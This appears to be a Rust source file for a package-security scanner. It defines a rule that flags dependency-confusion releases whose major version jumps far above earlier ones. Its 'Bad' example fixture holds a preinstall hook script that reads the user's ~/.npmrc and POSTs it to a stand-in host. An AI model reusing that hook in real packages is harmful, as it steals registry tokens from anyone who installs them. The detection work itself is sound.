//! # The version lies far beyond every earlier one
//!
//! The version's first number is fifty or more above the highest that was published before.
//!
//! ## Why it matters
//!
//! A package manager takes the highest version. Who takes over a name, or squats on a private one after a harmless first release,
//! publishes a number that nothing outranks.
//!
//! ## Known benign uses
//!
//! Mistakes, and a change of scheme: 3 of 284,168 releases of 4,075 packages, measured in November 2026, all honest. It never
//! decides alone.
//!
//! ## Bad
//!
//! ```package with packument
//! == package.json //~ 1
//! {"name": "acme-billing-core", "version": "99.0.1", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! == packument.json
//! {"name": "acme-billing-core", "versions": {"0.0.1": {}, "99.0.1": {"_id": "a", "name": "acme-billing-core", "version": "99.0.1",
//!   "scripts": {"preinstall": "node setup.js"}, "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## Good
//!
//! ```package with packument
//! == package.json
//! {"name": "browserdriver", "version": "127.0.1", "main": "index.js"}
//! == index.js
//! module.exports = 127;
//! == packument.json
//! {"name": "browserdriver", "versions": {"2.0.0": {}, "122.0.3": {}, "127.0.1": {"_id": "a", "name": "browserdriver",
//!   "version": "127.0.1", "main": "index.js", "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## References
//!
//! - Birsan: Dependency Confusion (February 2021)

use crate::prelude::*;

/// The version lies far beyond every earlier one.
pub struct VersionFarBeyondLine;

impl Rule for VersionFarBeyondLine {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "version-far-beyond-line",
            title: "The version lies far beyond every earlier one",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1195.001",
            covers: &["dependency-confusion"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let major = |version: &str| version.split('.').next()?.parse::<u64>().ok();
        let Some(entry) = facts.registry_entry() else { return };
        let own = facts.manifest().and_then(|manifest| major(manifest.version.as_deref()?));
        let highest = entry.history.highest.as_deref();
        let (Some(own), Some((highest, before))) = (own, highest.and_then(|it| Some((it, major(it)?))))
        else {
            return;
        };
        if own >= before.saturating_add(JUMP) {
            let does = format!("has a version far beyond `{}`, the highest before it", excerpt(highest, 40));
            found.in_manifest(&["version"], &does);
        }
    }
}

/// Of 284,168 releases 20 jump by 10 and more, 4 by 20, 3 by 50.
const JUMP: u64 = 50;
